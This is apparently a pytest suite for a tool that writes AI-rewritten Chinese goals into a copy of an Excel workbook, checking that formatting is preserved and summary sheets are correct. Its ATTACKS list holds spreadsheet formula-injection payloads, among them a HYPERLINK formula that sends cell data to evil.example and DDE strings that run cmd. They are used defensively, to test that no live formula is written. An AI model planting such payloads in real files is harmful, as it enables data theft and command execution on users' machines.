"""Results stand beside the goals in a copy of the workbook; all that was there keeps its bytes."""

from __future__ import annotations

import datetime
import io
import re
import time
import warnings
from pathlib import Path

import openpyxl
import pytest
from openpyxl.chart import LineChart, Reference
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table
from PIL import Image as Picture

from assistant.batch.cells import COLUMNS, JUDGED_COLUMNS, heads, words
from assistant.batch.outputs.cell_styles import COLOURS, FILLS
from assistant.batch.source import open_source
from assistant.errors import InputError
from assistant.files import Workbook, open_document
from assistant.goals.batch import BatchRow, Rewrite, RowResult
from assistant.goals.draft import Drafter
from tests.batch.made import (
    AREAS,
    FOUND,
    NEW,
    Opened,
    asked,
    failed,
    kept,
    rewritten,
    standing,
    summary_of,
    written,
)
from tests.files.made import members, raw_sheet, sheet_bytes, workbook_bytes

SHEET = "xl/worksheets/sheet1.xml"
NEW_TEXT = "2027 年 3 月的 CSAT 比 2026 年 11 月高 4 个百分点。"


def rich_plan() -> bytes:
    """A workbook with most of what people put into one."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "部门 & 目标"
    sheet["A1"] = "2027 年部门目标"
    sheet.merge_cells("A1:E1")
    sheet.append(["编号", "目标", "负责人", "截止日期", "合计"])
    goals = [
        "大幅提升客户满意度，尽快见效",
        "把投诉率从 3% 降到 1.5%，2027 年 6 月 30 日前完成",
        "加强培训",
        "降本增效",
    ]
    for at, text in enumerate(goals, start=3):
        sheet.append([f"G{at}", text, "王芳" if at % 2 else "李雷", datetime.date(2027, 6, at), f"=LEN(B{at})"])
    side = Side(style="thin")
    for cell in sheet[2]:
        cell.font, cell.fill = Font(bold=True, color="FFFFFFFF"), PatternFill("solid", fgColor="FF1F4E79")
        cell.border, cell.alignment = Border(side, side, side, side), Alignment(horizontal="center", wrap_text=True)
    for row in sheet["A3:E6"]:
        for cell in row:
            cell.border, cell.font = Border(side, side, side, side), Font(name="微软雅黑", size=10)
    sheet["B3"].comment = Comment("这条是老板定的", "人事")
    sheet.row_dimensions[5].hidden = True
    sheet.row_dimensions[4].height = 40
    sheet.column_dimensions["B"].width = 40
    sheet.conditional_formatting.add(
        "E3:E6", CellIsRule(operator="lessThan", formula=["5"], font=Font(color="FFFF0000"))
    )
    choices = DataValidation(type="list", formula1='"王芳,李雷"')
    choices.add("C3:C6")
    sheet.add_data_validation(choices)
    chart = LineChart()
    chart.add_data(Reference(sheet, min_col=5, min_row=2, max_row=6), titles_from_data=True)
    sheet.add_chart(chart, "A20")
    picture = io.BytesIO()
    Picture.new("RGB", (30, 20), "red").save(picture, "PNG")
    picture.seek(0)
    sheet.add_image(Image(picture), "C22")
    other = book.create_sheet("摘要")
    other["A1"] = "人写的摘要"
    other["B1"] = "=SUM('部门 & 目标'!E3:E6)"
    book.create_sheet("暗").sheet_state = "hidden"
    book.defined_names["全部"] = openpyxl.workbook.defined_name.DefinedName("全部", attr_text="'部门 & 目标'!$B$3:$B$6")
    return workbook_bytes(book)


def results_for(source: Opened) -> list[RowResult]:
    found = []
    for row in source.rows():
        made = {
            0: lambda row: rewritten(row, NEW_TEXT),
            1: kept,
            2: lambda row: asked(row, "降多少？", "到什么时候？"),
        }
        found.append(made[row.index % 3](row))
    return found


def sheets_of(data: bytes) -> list[str]:
    return openpyxl.load_workbook(io.BytesIO(data)).sheetnames


def spot(cell) -> tuple:
    looks = cell.font, cell.fill, cell.border, cell.alignment, cell.number_format, cell.protection
    return cell.value, *map(repr, looks)


def test_every_part_and_cell_that_was_there_stays():
    raw = rich_plan()
    source = Opened(raw)
    data, _ = written(source, results_for(source))
    before, after = members(raw), members(data)
    changed = {name for name in before if before[name] != after[name]}
    assert changed == {
        SHEET, "xl/styles.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "[Content_Types].xml",
    }  # fmt: skip
    assert list(before) == list(after)[: len(before)]
    assert {name for name in before if "drawing" in name or "media" in name or "comment" in name} <= set(after)
    for values_only in (False, True):
        old = openpyxl.load_workbook(io.BytesIO(raw), data_only=values_only)
        new = openpyxl.load_workbook(io.BytesIO(data), data_only=values_only)
        assert new.sheetnames[:3] == old.sheetnames
        for sheet in old:
            twin = new[sheet.title]
            for row in sheet.iter_rows():
                for cell in row:
                    assert spot(cell) == spot(twin.cell(cell.row, cell.column)), cell
            assert twin.merged_cells.ranges == sheet.merged_cells.ranges
            assert twin.sheet_state == sheet.sheet_state
            assert len(twin._charts) == len(sheet._charts) and len(twin._images) == len(sheet._images)
            assert twin.row_dimensions[5].hidden == sheet.row_dimensions[5].hidden
            assert [rule.sqref for rule in twin.conditional_formatting] == [
                rule.sqref for rule in sheet.conditional_formatting
            ]
            assert len(twin.data_validations.dataValidation) == len(sheet.data_validations.dataValidation)
        assert new.defined_names["全部"].attr_text == old.defined_names["全部"].attr_text


def test_taking_out_what_was_added_leaves_the_sheet_as_it_was():
    raw = rich_plan()
    source = Opened(raw)
    data, _ = written(source, results_for(source))
    before, after = members(raw)[SHEET], members(data)[SHEET]
    after = re.sub(rb'(?s)<c r="[F-O]\d+" s="\d+"(?:/>|.*?</c>)', b"", after)
    after = re.sub(rb'<col min="(?:[6-9]|1[0-5])" max="\d+" width="[\d.]+" customWidth="1"/>', b"", after)
    after = re.sub(rb"<pane [^>]*/><selection pane=\"bottomLeft\"/>", b"", after).replace(
        b'ref="A1:O6"', b'ref="A1:E6"'
    )
    after = re.sub(rb'(<row r="[36]")([^>]*?) ht="[\d.]+"', rb"\1\2", after)
    assert after == before


def test_the_columns_say_what_became_of_each_goal():
    source = Opened(rich_plan())
    rows = list(source.rows())
    assert [row.line for row in rows] == [3, 4, 6]
    results = [
        rewritten(
            rows[0], NEW_TEXT, rewrites=(Rewrite(id="G3", text=NEW_TEXT, standing=standing(92), numbers=(NEW,)),)
        ),
        kept(rows[1]),
        failed(rows[2], "模型没有给出能用的目标。"),
    ]
    data, told = written(source, results)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert tuple(cell.value for cell in sheet[2][5:15]) == heads("zh-Hans")
    line = dict(zip(COLUMNS, (cell.value for cell in sheet[3][5:15]), strict=True))
    assert line["rewritten"] == NEW_TEXT
    assert (line["status"], line["score_before"], line["score_after"]) == ("已改写", 33, 92)
    assert "S ×→√" in line["standing"]
    assert line["numbers"] == "4 个百分点：建议，待确认（按去年的增幅）"
    assert sheet["F4"].value == rows[1].text and sheet["G4"].value == "原样保留"
    assert sheet["F6"].value == rows[2].text and sheet["O6"].value == "模型没有给出能用的目标。"
    assert sheet["H6"].value is None
    assert sheet["F5"].value is None and sheet["G5"].value is None, "the hidden row is left alone"
    assert sheet["F3"].alignment.wrap_text and sheet["F3"].alignment.vertical == "top"
    assert sheet["F3"].font.name == "微软雅黑" and sheet["F3"].font.sz == 10
    assert sheet["F3"].border.left.style == "thin"
    assert spot(sheet["F2"])[1:] == spot(sheet["E2"])[1:], "headings look like the sheet's own"
    assert sheet["H3"].fill.fgColor.rgb == "FFFFC7CE" and sheet["I3"].fill.fgColor.rgb == "FFC6EFCE"
    assert sheet.column_dimensions["F"].width == 52 and sheet.column_dimensions["B"].width == 40
    assert sheet.freeze_panes == "A3"
    assert sheet.row_dimensions[4].height == 40, "a height set by hand stays"
    assert any("height set by hand" in line for line in told)


def test_what_the_added_sheets_say():
    source = Opened(rich_plan())
    results = results_for(source)
    results[0] = rewritten(next(source.rows()), NEW_TEXT, drafter=Drafter(kind="llm", model="qwen{n}"))
    summary = summary_of(results, set_findings=(FOUND,), balance=AREAS)
    data, _ = written(source, results, summary)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["部门 & 目标", "摘要", "暗", "摘要 (2)", "待答问题", "整表检查"]
    sheet = book["摘要 (2)"]
    shown = {row[0].value: [cell.value for cell in row[1:3]] for row in sheet.iter_rows(max_row=23)}
    assert shown["已改写"][0] == shown["原样保留"][0] == shown["待答"][0] == 1
    assert shown["目标总数"][0] == 3
    assert shown["平均分（满分 100）"] == [56.3, 81.2]
    assert shown["错误数"] == [7, 1]
    assert shown["待答问题"][0] == 2
    assert shown["20–39"] == [1, 0] and shown["80–100"] == [1, 2] and shown["60–79"] == [1, 1]
    assert "qwen{n} 写了 1 条" in sheet["A2"].value and "goals.xlsx" in sheet["A2"].value
    assert len(sheet._charts) == 2
    texts = {cell.value for row in sheet.iter_rows(min_row=24) for cell in row}
    assert {*heads("zh-Hans"), "√", "△", "×", "–", *"SMARTC"} <= texts
    questions = book["待答问题"]
    assert [cell.value for cell in questions[4]] == ["负责人", "目标编号", "目标原文", "要回答的问题"]
    assert [cell.value for cell in questions[5]] == ["李雷", "G6", "降本增效", "降多少？"]
    assert questions["B5"].hyperlink.location == "'部门 & 目标'!B6" and questions["B5"].hyperlink.target is None
    assert questions.freeze_panes == "A5"
    between = book["整表检查"]
    assert [cell.value for cell in between[4][:4]] == ["提醒", "duplicate-goals", "G3、G4", FOUND.message]
    grid = {between.cell(row, 6).value: between.cell(row, 7).value for row in range(4, 9)}
    assert grid == {"增长": 3, "效率": 1, "风险": 0, "团队": 1, "看不出": 1}
    assert between["F9"].value == "还没有目标的方面：风险"
    rels = members(data)["xl/worksheets/_rels/sheet4.xml.rels"]
    assert b"External" not in b"".join(part for name, part in members(data).items() if name.endswith(".rels")), rels


def test_charts_carry_the_figures_they_show():
    source = Opened(rich_plan())
    data, _ = written(source, results_for(source))
    parts = members(data)
    charts = [
        part.decode()
        for name, part in parts.items()
        if name.startswith("xl/charts/") and name not in members(rich_plan())
    ]
    assert len(charts) == 2
    score = next(chart for chart in charts if "分数分布" in chart)
    assert re.findall(r"<(?:\w+:)?f>(.*?)</", score)[0] == "'摘要 (2)'!$B$17"
    book = openpyxl.load_workbook(io.BytesIO(data))
    for chart in charts:
        for block in re.findall(r"<(?:\w+:)?numRef>(.*?)</(?:\w+:)?numRef>", chart):
            sheet, _, span = re.search(r"f>'(.*?)'(!)(.*?)<", block).groups()
            cells = [row[0].value for row in book[sheet][span.replace("$", "")]]
            assert [float(value) for value in re.findall(r"v>([^<]+)</", block)] == cells


@pytest.mark.parametrize("language", ["zh-Hans", "zh-Hant", "en"])
def test_all_words_are_there_in_every_language(language):
    table, reference = words(language), words("en")
    for part in ("sheets", "summary"):
        assert table[part].keys() == reference[part].keys()
        for key, text in table[part].items():
            assert set(re.findall(r"{\w+}", text)) == set(re.findall(r"{\w+}", reference[part][key])), key
            if language != "en":
                assert not re.search(r"[\u4e00-\u9fff][,;:!?()]|[,;:!?()][\u4e00-\u9fff]", text), text
    source = Opened(rich_plan())
    data, _ = written(source, results_for(source), language=language)
    book = openpyxl.load_workbook(io.BytesIO(data))
    names = [table["sheets"][key] for key in ("questions", "findings")]
    assert names == book.sheetnames[-2:]
    for name in book.sheetnames[3:]:
        assert len(name) <= 31
        assert "{" not in "".join(str(cell.value) for row in book[name].iter_rows() for cell in row)


def test_a_run_that_only_judges():
    source = Opened(rich_plan())
    results = [
        RowResult(index=row.index, id=row.id, state="done", verdict="judged", before=standing(50))
        for row in source.rows()
    ]
    summary = summary_of(results, judged=3, score_after=None, errors_after=0)
    data, _ = written(source, results, summary, columns=JUDGED_COLUMNS)
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert tuple(cell.value for cell in book.worksheets[0][2][5:]) == heads("zh-Hans", JUDGED_COLUMNS)
    sheet = book["摘要 (2)"]
    assert sheet["A1"].value == "目标检查摘要"
    assert "现在" not in {cell.value for row in sheet.iter_rows() for cell in row}
    assert "待答问题" not in book.sheetnames


def test_rows_without_a_result_are_pending():
    source = Opened(rich_plan())
    rows = list(source.rows())
    data, _ = written(source, [kept(rows[2])])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [sheet.cell(line, 7).value for line in (3, 4, 6)] == ["未处理", "未处理", "原样保留"]


def test_a_split_goal_stands_in_one_cell_numbered():
    source = Opened(sheet_bytes(["目标", "负责人"], ["做好安全；完善制度", "王"]))
    row = next(source.rows())
    parts = tuple(Rewrite(id=f"{row.id}{letter}", text=f"目标{letter}", standing=standing(80)) for letter in "ab")
    data, _ = written(source, [rewritten(row, "", rewrites=parts)])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["C2"].value == "(1) 目标a\n(2) 目标b"


def test_the_difference_is_shown_in_a_column_of_its_own():
    source = Opened(sheet_bytes(["目标", "负责人"], ["大幅提升客户满意度", "王"]))
    row = next(source.rows())
    data, _ = written(source, [rewritten(row, "把客户满意度提高 <4> 分")], as_diff=True)
    book = openpyxl.load_workbook(io.BytesIO(data), rich_text=True)
    sheet = book.worksheets[0]
    assert (sheet["C1"].value, sheet["D1"].value, sheet["E1"].value) == ("改写后的目标", "改动对照", "状态")
    runs = [(str(run), bool(run.font.strike), bool(run.font.u)) for run in sheet["D2"].value if hasattr(run, "font")]
    assert runs == [
        ("大幅提升", True, False), ("把", False, True), ("客户满意度", False, False), ("提高 <4> 分", False, True),
    ]  # fmt: skip


ATTACKS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1)", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
    "＝1+1", "＋1", "－1", "＠x", "DDE(\"cmd\";\"/C calc\")", "a\x00b", "\x1b[31mred", "_x0041_", "_x003D_1+1",
    "</t></is></c>",
    "<f>1+1</f>", "&amp;", "]]>", "𠮷 👨‍👩‍👧‍👦", "a\ud800b", " x ", "\ufffe", "x" * 40_000,
]  # fmt: skip


def test_findings_that_are_not_listed_are_counted():
    source = Opened(sheet_bytes(["目标", "负责人"], ["目标甲", "王"], ["目标乙", "李"]))
    results = [rewritten(row, "Raise it") for row in source.rows()]
    data, _ = written(source, results, summary_of(results, set_findings=(FOUND,), set_findings_more=321))
    cells = [
        cell for row in openpyxl.load_workbook(io.BytesIO(data))["摘要"].iter_rows(values_only=True) for cell in row
    ]
    assert 322 in cells


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_no_live_formula_whatever_the_words(attack):
    source = Opened(sheet_bytes(["目标", "负责人"], ["目标甲", "王"]))
    row = next(source.rows()).model_copy(update={"text": attack, "id": attack[:50], "owner": attack[:99]})
    source = Opened(source.data, made=(row,))
    results = [
        rewritten(row, attack, owner=attack[:99], changes=(attack,), questions=(attack,), reason=attack,
                  drafter=Drafter(kind="llm", model=attack[:50]))
    ]  # fmt: skip
    found = FOUND.model_copy(update={"message": attack, "rule": attack[:40], "rows": (0,)})
    data, told = written(source, results, summary_of(results, set_findings=(found,), stopped=attack))
    for name, part in members(data).items():
        if name.startswith("xl/worksheets/sheet"):
            assert b"<f>" not in part and b"<f " not in part and b":f>" not in part
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book:
        assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    document = open_document(data, "out.xlsx")
    assert isinstance(document, Workbook)
    shown = document.sheets[0].rows[1].cells.get(3, "")
    if len(attack) < 40_000:
        expected = re.sub(r"[\x00\x1b\ud800\ufffe]", " ", attack.replace("\r", "\n"))
        assert shown == (expected if expected.strip() else "")
        if attack.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")):
            assert book.worksheets[0]["C2"].quotePrefix
    else:
        assert len(shown) <= 32_767 and shown.endswith(words("zh-Hans")["sheets"]["cut"])
        assert any("C2" in line and "32,767" in line and "JSON" in line for line in told)


def test_long_words_are_cut_between_characters():
    family = "👨‍👩‍👧‍👦"
    source = Opened(sheet_bytes(["目标", "负责人"], ["目标甲", "王"]))
    data, _ = written(source, [rewritten(next(source.rows()), family * 4_000)])
    document = open_document(data, "out.xlsx")
    shown = document.sheets[0].rows[1].cells[3].removesuffix(words("zh-Hans")["sheets"]["cut"])
    assert shown == family * (len(shown) // len(family)) and len(shown) > 10_000


def test_two_tables_on_a_sheet_and_several_goals_in_a_row():
    raw = sheet_bytes(
        ["目标", "关键结果1", "关键结果2"],
        ["提升口碑", "NPS 到 40", "投诉率降到 1%"],
        ["降本", "费用降 5%"],
        [],
        ["目标", "负责人"],
        ["按时交付 10 个版本", "王"],
    )  # fmt: skip
    source = Opened(raw)
    rows = list(source.rows())
    assert [(row.line, row.column) for row in rows] == [(2, 2), (2, 3), (3, 2), (6, 1)]
    data, _ = written(source, [kept(row) for row in rows])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet["D1"].value == "改写后的目标（关键结果1）" and sheet["N1"].value == "改写后的目标（关键结果2）"
    assert (sheet["D2"].value, sheet["N2"].value, sheet["D3"].value, sheet["N3"].value) == (
        "NPS 到 40", "投诉率降到 1%", "费用降 5%", None,
    )  # fmt: skip
    assert sheet["D5"].value == "改写后的目标" and sheet["D6"].value == "按时交付 10 个版本"
    assert sheet.freeze_panes is None


def test_a_list_without_heading_gets_headings_only_where_there_is_room():
    source = Opened(sheet_bytes(["提升客户满意度"], ["加强培训"]))
    data, told = written(source, [kept(row) for row in source.rows()])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert (sheet["B1"].value, sheet["B2"].value) == ("提升客户满意度", "加强培训")
    assert any("no row for headings" in line for line in told)
    moved = Opened(
        raw_sheet(
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="3">'
            '<c r="A3" t="inlineStr"><is><t>提升客户满意度</t></is></c></row></sheetData></worksheet>'
        )
    )
    data, told = written(moved, [kept(row) for row in moved.rows()])
    assert b'<row r="2"><c r="B2" s=' in members(data)[SHEET] and not told


def test_pictures_tables_and_formats_at_the_right_are_not_covered():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["目标", "负责人"])
    sheet.append(["提升客户满意度", "王"])
    sheet["D2"].fill = PatternFill("solid", fgColor="FFFF0000")
    source = Opened(workbook_bytes(book))
    data, _ = written(source, [kept(row) for row in source.rows()])
    assert openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]["E1"].value == "改写后的目标"
    chart = LineChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=2))
    sheet.add_chart(chart, "F2")
    source = Opened(workbook_bytes(book))
    data, _ = written(source, [kept(row) for row in source.rows()])
    first = next(
        cell.column
        for cell in openpyxl.load_workbook(io.BytesIO(data)).worksheets[0][1]
        if cell.value == "改写后的目标"
    )
    assert first > 10
    sheet["AZ9"].fill = PatternFill("solid", fgColor="FFFF0000")
    sheet["AZ2"].fill = PatternFill("solid", fgColor="FFFF0000")
    sheet._charts.clear()
    sheet.add_table(Table(displayName="T", ref="A1:B2"))
    source = Opened(workbook_bytes(book))
    data, _ = written(source, [kept(row) for row in source.rows()])
    fresh = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert fresh["C1"].value == "改写后的目标" and fresh["C2"].value == "提升客户满意度"
    assert fresh["AZ2"].fill.fgColor.rgb == "FFFF0000"


def test_widths_that_reach_to_the_last_column_are_split():
    xml = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetViews><sheetView '
        'workbookViewId="0"/></sheetViews><sheetFormatPr defaultRowHeight="14"/><cols><col min="1" max="1" width="9"/>'
        '<col min="2" max="16384" width="5" hidden="1"></col></cols><sheetData>'
        '<row r="1" spans="1:1"><c r="A1" t="inlineStr"><is><t>目标</t></is></c></row>'
        '<row r="2" spans="1:1" ht="14"><c r="A2" t="inlineStr"><is><t>提升客户满意度</t></is></c><c r="B2"/></row>'
        "</sheetData></worksheet>"
    )
    source = Opened(raw_sheet(xml))
    data, _ = written(source, [rewritten(row, "新" * 100) for row in source.rows()])
    out = members(data)[SHEET].decode()
    columns = [tuple(map(int, pair)) for pair in re.findall(r'<col min="(\d+)" max="(\d+)"', out)]
    assert columns == [(1, 1), (2, 2), *((at, at) for at in range(3, 13)), (13, 16384)]
    assert 'width="5" hidden="1"></col><col min="3" max="3" width="52"' in out
    pane = '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/><selection pane="bottomLeft"/>'
    assert f"{pane}</sheetView>" in out
    assert 'spans="1:12"' in out and float(re.search(r'<row r="2"[^>]* ht="([\d.]+)"', out)[1]) > 50


@pytest.mark.parametrize("strict", [False, True])
def test_odd_writers_of_workbooks(strict):
    """Prefixed names, no format sheet, no shared strings, absolute targets, rows without references."""
    main = (
        "http://purl.oclc.org/ooxml/spreadsheetml/main"
        if strict
        else "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    )
    office = (
        "http://purl.oclc.org/ooxml/officeDocument/relationships"
        if strict
        else "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    )
    xml = (
        f'\ufeff<?xml version="1.0" encoding="utf-8"?><x:worksheet xmlns:x="{main}"><x:sheetData><x:row>'
        '<x:c t="inlineStr"><x:is><x:t>目标</x:t></x:is></x:c></x:row><x:row><x:c t="inlineStr"><x:is><x:t>'
        "提升客户满意度</x:t></x:is></x:c></x:row></x:sheetData></x:worksheet>"
    )
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "xl/workbook.xml": f'<x:workbook xmlns:x="{main}" xmlns:q="{office}"><x:sheets><x:sheet name="S" sheetId="7" '
        'q:id="a"/></x:sheets></x:workbook>',
        "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="a" Type="{office}/worksheet" Target="/xl/worksheets/sheet1.xml"/></Relationships>',
        SHEET: xml,
    }  # fmt: skip
    from tests.files.made import zipped

    source = Opened(zipped(parts))
    rows = list(source.rows())
    data, _ = written(source, [rewritten(row, NEW_TEXT) for row in rows])
    out = members(data)
    assert b'<x:c r="B2" s="' in out[SHEET] and NEW_TEXT.encode() in out[SHEET]
    assert "xl/styles.xml" in out and b"/styles" in out["xl/_rels/workbook.xml.rels"]
    assert (b"purl.oclc.org" in out["xl/charts/chart1.xml"]) == strict
    assert (b"schemas.openxmlformats.org/drawingml" in out["xl/drawings/drawing1.xml"]) == (not strict)
    document = open_document(data, "out.xlsx")
    assert [sheet.name for sheet in document.sheets] == ["S", "摘要", "整表检查"]
    assert document.sheets[0].rows[1].cells[2] == NEW_TEXT


def test_numbers_are_numbers_and_dates_of_1904_stay():
    book = openpyxl.Workbook()
    book.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
    book.active.append(["目标", "截止日期"])
    book.active.append(["提升客户满意度", datetime.date(2027, 6, 30)])
    source = Opened(workbook_bytes(book))
    data, _ = written(source, [rewritten(row, NEW_TEXT) for row in source.rows()])
    fresh = openpyxl.load_workbook(io.BytesIO(data))
    assert fresh.epoch == openpyxl.utils.datetime.CALENDAR_MAC_1904
    assert fresh.worksheets[0]["B2"].value == datetime.datetime(2027, 6, 30)
    assert fresh.worksheets[0]["E2"].data_type == "n" and fresh.worksheets[0]["E2"].value == 33


def test_rows_are_as_high_as_their_own_words_and_the_new_ones_need():
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["目标", "负责人", "备注"])
    for _ in range(3):
        sheet.append(["提升客户满意度", "王", "很长的备注" * 20])
    for line in (2, 3):
        sheet.cell(line, 3).alignment = Alignment(wrap_text=True)
    sheet.merge_cells("C3:C4")
    source = Opened(workbook_bytes(book))
    data, _ = written(source, [kept(row) for row in source.rows()])
    fresh = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    wrapped, joined, plain = (fresh.row_dimensions[line].height for line in (2, 3, 4))
    assert wrapped > 300 and joined == plain < 60


def test_a_view_that_is_arranged_stays():
    book = openpyxl.Workbook()
    book.active.append(["目标", "负责人"])
    book.active.append(["提升客户满意度", "王"])
    book.active.freeze_panes = "B3"
    source = Opened(workbook_bytes(book))
    data, _ = written(source, [kept(row) for row in source.rows()])
    assert openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].freeze_panes == "B3"


def test_a_sheet_without_free_columns_is_refused():
    book = openpyxl.Workbook()
    book.active.append(["目标", "负责人"])
    book.active.append(["提升客户满意度", "王"])
    book.active["XFA2"] = "x"
    source = Opened(workbook_bytes(book))
    with pytest.raises(InputError, match="no free columns in sheet 'Sheet'"):
        written(source, [kept(row) for row in source.rows()])


def test_other_encodings_are_refused():
    source = Opened(
        raw_sheet('<?xml version="1.0" encoding="utf-16"?><worksheet/>'.encode("utf-16")),
        made=(BatchRow(index=0, id="1", text="目标", sheet="S", line=2, column=1),),
    )
    with pytest.raises(InputError, match="not UTF-8"):
        written(source, [kept(next(source.rows()))])


def test_a_column_that_was_named_by_hand(tmp_path):
    path = tmp_path / "清单.xlsx"
    path.write_bytes(sheet_bytes(["我们的清单"], ["事项甲", "谁"], ["提升客户满意度", "王"], ["加强培训", "李"]))
    source = open_source(path, columns={"goal": "事项甲", "owner": "谁"})
    rows = list(source.rows())
    data, told = written(source, [asked(rows[0], "提高多少？"), kept(rows[1])])
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert (sheet["C1"].value, sheet["C2"].value, sheet["C3"].value) == (None, "改写后的目标", "提升客户满意度")
    assert book["待答问题"]["A5"].value == "王" and not told


def test_a_form_has_its_columns_beside_the_goals():
    source = Opened(
        sheet_bytes(
            ["目标", "提升客户满意度"], ["负责人", "王"], ["截止日期", "2027-06-30"],
            ["目标", "降低投诉率"], ["负责人", "李"], ["截止日期", "2027-12-31"],
        )
    )  # fmt: skip
    rows = list(source.rows())
    assert [(row.line, row.column) for row in rows] == [(1, 2), (4, 2)]
    data, told = written(source, [kept(row) for row in rows])
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [sheet.cell(line, 3).value for line in range(1, 7)] == [
        "提升客户满意度",
        None,
        None,
        "降低投诉率",
        None,
        None,
    ]
    assert any("no row for headings" in line for line in told)


def test_the_same_in_gives_the_same_out():
    source = Opened(rich_plan())
    first, second = (written(source, results_for(source))[0] for _ in range(2))
    assert first == second


def test_nothing_is_written_to_disk(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    source = Opened(rich_plan())
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        written(source, results_for(source))
    assert not list(Path(tmp_path).iterdir())


def luminance(colour: str) -> float:
    parts = [int(colour[at : at + 2], 16) / 255 for at in (2, 4, 6)]
    red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


@pytest.mark.parametrize("look", sorted(COLOURS))
def test_words_can_be_read_on_their_fill(look):
    light, dark = luminance(FILLS.get(look, "FFFFFFFF")), luminance(COLOURS[look])
    assert (light + 0.05) / (dark + 0.05) >= 4.5


def test_a_patched_style_sheet_counts_right():
    source = Opened(rich_plan())
    data, _ = written(source, results_for(source), as_diff=True)
    sheet = members(data)["xl/styles.xml"].decode()
    for part, child in (("fonts", "font"), ("fills", "fill"), ("borders", "border"), ("cellXfs", "xf")):
        block = re.search(rf'<{part} [^>]*count="(\d+)"[^>]*>(.*?)</{part}>', sheet, re.S)
        assert int(block[1]) == len(re.findall(rf"<{child}[ >/]", block[2])), part
    highest = len(re.findall(r"<xf ", re.search(r"<cellXfs.*?</cellXfs>", sheet, re.S)[0])) - 1
    used = {int(style) for name, part in members(data).items() if "worksheets/sheet" in name
            for style in re.findall(rb'<c r="[A-Z]+\d+" s="(\d+)"', part)}  # fmt: skip
    assert max(used) <= highest


@pytest.mark.slow
def test_twenty_thousand_rows_in_reasonable_time():
    source = Opened(
        sheet_bytes(["编号", "目标", "负责人"], *([f"G{at}", f"把投诉率降到 {at}", "王"] for at in range(19_999)))
    )
    source.made = tuple(source.rows())
    results = [rewritten(row, f"{NEW_TEXT}{row.text}", questions=("多少？",)) for row in source.made]
    start = time.process_time()
    data, _ = written(source, results)
    assert time.process_time() - start < 30
    assert members(data)[SHEET].count(b"<row ") == 20_000
